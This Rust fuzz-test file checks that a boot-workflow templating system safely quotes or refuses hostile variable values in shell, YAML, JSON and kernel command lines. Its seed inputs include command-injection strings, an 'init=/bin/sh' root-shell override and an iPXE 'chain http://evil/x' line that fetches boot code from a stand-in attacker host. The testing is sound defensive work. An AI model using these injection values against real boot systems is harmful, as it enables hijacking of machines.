//! Texts with variables, and hostile values in them. What comes out is read by those it is for: a shell, readers of YAML
//! and JSON that are not ours, and a kernel's command line taken apart as the kernel and iPXE do it.
//!
//! Promised: a quoted value is one value and the same; a bare one is refused or is part of one word; a value is never
//! read for variables again; unknown variables are refused when a workflow is made.

use crate::wire::shape;
use domain::boot_workflow::{BootWorkflow, VARIABLES};
use std::collections::BTreeMap;
use std::process::Command;
use testkit::fuzz::{Fuzz, Verdict};

/// Between the template and the value of all its variables.
const BETWEEN: &str = "\n===\n";
/// What a machine says of itself; the rest is ours.
const CLAIMED: [&str; 7] = ["ip", "hostname", "serial", "uuid", "vendor", "model", "arch"];

/// What sets an option, ends a command of iPXE or begins something else.
const SPECIAL: [char; 9] = ['$', '#', '&', '|', ';', '=', '\\', '\'', '"'];

const SEEDS: &[&str] = &[
    "a ${mac} b\n===\nweb-1",
    "host=${hostname} x\n===\nit's \"x\\",
    "name: ${hostname:yaml}\nx=${serial:shell}\n===\n$(touch x) `id` ${mac} $mac ; && || # %post",
    "${serial}\n===\ninit=/bin/sh",
    "quiet ${vendor} ${model}\n===\n&&",
    "x=${serial:shell}\n===\na && chain http://evil/x",
    "x=\"${serial}\" y=$$1\n===\n--",
    "a\n===\na\nb: c\u{85}\u{2028}--- \u{2029}\u{feff}\u{fffe}\u{ffff}\u{1f600}\u{1fffe}ü",
    "${nobody} $mac ${mac:xml} ${mac} $$ $\n===\n\\u0041\\n\\",
    "${mac:shell\n===\n'\\''",
    "${a}${}${:}${mac:}\n===\n ",
    "$$${url}$${url}\n===\n*a &b !c |",
];

#[test]
fn templates() {
    let names = VARIABLES.iter().map(|v| v.0);
    let words = [
        "${",
        "}",
        ":shell}",
        ":yaml}",
        "$$",
        "${hostname}",
        "${mac:yaml}",
        BETWEEN,
        "'",
        "\"",
        "\\",
        "'\\''",
        "\n",
        "&&",
        "||",
        ";",
        "$(id)",
        "`id`",
        "#",
        "\u{2028}",
        "\u{ffff}",
        "\u{7f}",
        "---",
        "- ",
        ": ",
        "init=/bin/sh",
    ];
    let fuzz = Fuzz::new("templates", module_path!()).seeds(SEEDS.iter().map(|s| s.as_bytes()));
    fuzz.words(names).words(words).inputs(2_000).run(|| {
        |input: &[u8]| {
            let text = String::from_utf8_lossy(input);
            let (template, value) = text.split_once(BETWEEN).unwrap_or(("", &text));
            let made = made_and_rendered(template, value)?;
            Ok(format!("{made} | {} {} {}", shell(value)?, yaml(value)?, words_of_a_kernel(value)?))
        }
    });
}

fn workflow(cmdline: &str, template: &str) -> BootWorkflow {
    let (id, kernel) = ("w".to_owned(), "k".to_owned());
    BootWorkflow { id, kernel, cmdline: cmdline.to_owned(), template: template.to_owned(), ..BootWorkflow::default() }
}

fn values(value: &str) -> BTreeMap<&'static str, String> {
    VARIABLES.iter().map(|(name, _)| (*name, value.to_owned())).collect()
}

/// A piece of a text by a reading of its own, character by character.
enum Piece {
    Char(char),
    Variable { name: String, quoting: Option<String> },
}

/// `None`: it is malformed.
fn read(text: &str) -> Option<Vec<Piece>> {
    let mut out = Vec::new();
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c != '$' {
            out.push(Piece::Char(c));
            continue;
        }
        match chars.next()? {
            '$' => out.push(Piece::Char('$')),
            '{' => {
                let mut inside = String::new();
                loop {
                    match chars.next()? {
                        '}' => break,
                        c => inside.push(c),
                    }
                }
                let mut parts = inside.splitn(2, ':');
                let name = parts.next().unwrap_or_default().to_owned();
                let quoting = parts.next().map(str::to_owned);
                let known = VARIABLES.iter().any(|v| v.0 == name);
                if !known || !matches!(quoting.as_deref(), None | Some("shell" | "yaml")) {
                    return None;
                }
                out.push(Piece::Variable { name, quoting });
            }
            _ => return None,
        }
    }
    Some(out)
}

fn made_and_rendered(template: &str, value: &str) -> Result<String, String> {
    let made = workflow("", template).checked();
    let read = read(template);
    if made.is_ok() != (read.is_some() && template.len() <= 64 * 1024) {
        return Err(format!("{template:?} is made: {made:?}"));
    }
    let Some(read) = read else { return Ok(shape(&made.map_or_else(|e| e.message, |_| String::new()))) };
    // a plain value in each place is what it is, quoted or not
    let pieces = read.iter().map(|piece| match piece {
        Piece::Char(c) => c.to_string(),
        Piece::Variable { quoting, .. } => match quoting.as_deref() {
            Some("shell") => "'v-1'".to_owned(),
            Some(_) => "\"v-1\"".to_owned(),
            None => "v-1".to_owned(),
        },
    });
    let expected: String = pieces.collect();
    let rendered = workflow("", template).rendered_template(&values("v-1"));
    if rendered.as_ref() != Ok(&expected) {
        return Err(format!("{template:?} becomes {rendered:?}, not {expected:?}"));
    }
    cmdline(template, &read, value)
}

/// The same text as a command line: its words and their names are the text's, whatever a machine claims.
fn cmdline(text: &str, read: &[Piece], value: &str) -> Result<String, String> {
    const HOLE: char = '\u{1}';
    let is_a_claim = |name: &str| CLAIMED.contains(&name);
    let pieces = read.iter().map(|piece| match piece {
        Piece::Char(c) => c.to_string(),
        Piece::Variable { name, .. } if is_a_claim(name) => HOLE.to_string(),
        Piece::Variable { .. } => "v-1".to_owned(),
    });
    let words: String = pieces.collect();
    let names_one = words.split_whitespace().any(|word| word.trim_start_matches('"').starts_with(HOLE));
    let quoted = read.iter().any(|piece| matches!(piece, Piece::Variable { quoting: Some(_), .. }));
    let control = read.iter().any(|piece| matches!(piece, Piece::Char(c) if c.is_control()));
    let made = workflow(text, "").checked();
    if made.is_ok() != (!names_one && !quoted && !control && text.len() <= 2048) {
        return Err(format!("{text:?} is made a command line: {made:?}"));
    }
    if let Err(e) = made {
        return Ok(shape(&e.message));
    }
    let mut values = values("v-1");
    values.iter_mut().filter(|(name, _)| is_a_claim(name)).for_each(|(_, claim)| value.clone_into(claim));
    let Ok(rendered) = workflow(text, "").rendered_cmdline(&values) else {
        return Ok("not with this value".to_owned());
    };
    let expected: Vec<String> = words.split_whitespace().map(|word| word.replace(HOLE, value)).collect();
    let found: Vec<&str> = rendered.split_whitespace().collect();
    if found != expected || words.contains(HOLE) && value.contains(SPECIAL) {
        return Err(format!("{text:?} with {value:?} has the words {found:?}"));
    }
    Ok("a command line".to_owned())
}

fn shell(value: &str) -> Verdict {
    let rendered = workflow("", "${serial:shell}").rendered_template(&values(value));
    let quoted = match rendered {
        Err(_) if value.chars().any(char::is_control) => return Ok("no shell".to_owned()),
        Err(e) => return Err(format!("{value:?} cannot be quoted for a shell: {e}")),
        Ok(quoted) => quoted,
    };
    let said = Command::new("sh").args(["-c", &format!("printf %s {quoted}; printf %s end{quoted}end")]).output();
    let said = said.map_err(|e| format!("sh: {e}"))?;
    if said.stdout != format!("{value}end{value}end").into_bytes() || !said.stderr.is_empty() {
        return Err(format!("a shell takes {quoted} for {:?}", String::from_utf8_lossy(&said.stdout)));
    }
    Ok("shell".to_owned())
}

fn yaml(value: &str) -> Verdict {
    let rendered = workflow("", "a: ${serial:yaml}\nb: [${serial:yaml}, {c: ${serial:yaml}}]\nd: e\n")
        .rendered_template(&values(value));
    let text = match rendered {
        Err(_) if value.chars().any(char::is_control) => return Ok("no yaml".to_owned()),
        Err(e) => return Err(format!("{value:?} cannot be quoted for YAML: {e}")),
        Ok(text) => text,
    };
    let read: Result<serde_json::Value, _> = serde_yaml_ng::from_str(&text);
    let expected = serde_json::json!({ "a": value, "b": [value, { "c": value }], "d": "e" });
    if read.as_ref().ok() != Some(&expected) {
        return Err(format!("{value:?} is read from YAML as {read:?}:\n{text}"));
    }
    // beyond that, what other readers take for the end of a line or refuse is not there at all
    if let Some(odd) = text.chars().find(|c| ('\u{7f}'..='\u{ffff}').contains(c)) {
        return Err(format!("{odd:?} stands there as it is: {text:?}"));
    }
    let json = workflow("", "${serial:yaml}").rendered_template(&values(value)).map_err(|e| e.message)?;
    match serde_json::from_str::<String>(&json) {
        Ok(read) if read == value => Ok("yaml".to_owned()),
        other => Err(format!("{value:?} is read from JSON as {other:?}: {json}")),
    }
}

/// What may follow a name in a command line, by itself and in a word.
fn words_of_a_kernel(value: &str) -> Verdict {
    let rendered = workflow("a x=${serial} y=${hostname}z \"q=${vendor}\" end", "").rendered_cmdline(&values(value));
    let plain = value.bytes().all(|b| b.is_ascii_alphanumeric() || b"-._".contains(&b));
    let line = match rendered {
        Err(e) if plain => return Err(format!("{value:?} cannot stand in a command line: {e}")),
        Err(_) => return Ok("no word".to_owned()),
        Ok(line) => line,
    };
    let expected =
        ["a", &format!("x={value}"), &format!("y={value}z"), &format!("q={value}"), "end"].map(str::to_owned);
    let found = kernels(&line);
    if found != expected || value.contains(SPECIAL) {
        return Err(format!("{value:?} makes a command line of {found:?}"));
    }
    Ok(format!("word {plain}"))
}

/// As Linux takes a command line apart (`next_arg`): blanks between words, unless within double quotes.
fn kernels(line: &str) -> Vec<String> {
    let (mut words, mut word, mut quoted) = (Vec::new(), String::new(), false);
    for c in line.chars() {
        match c {
            '"' => quoted = !quoted,
            c if c.is_whitespace() && !quoted => {
                if !word.is_empty() {
                    words.push(std::mem::take(&mut word));
                }
            }
            c => word.push(c),
        }
    }
    if !word.is_empty() {
        words.push(word);
    }
    words
}
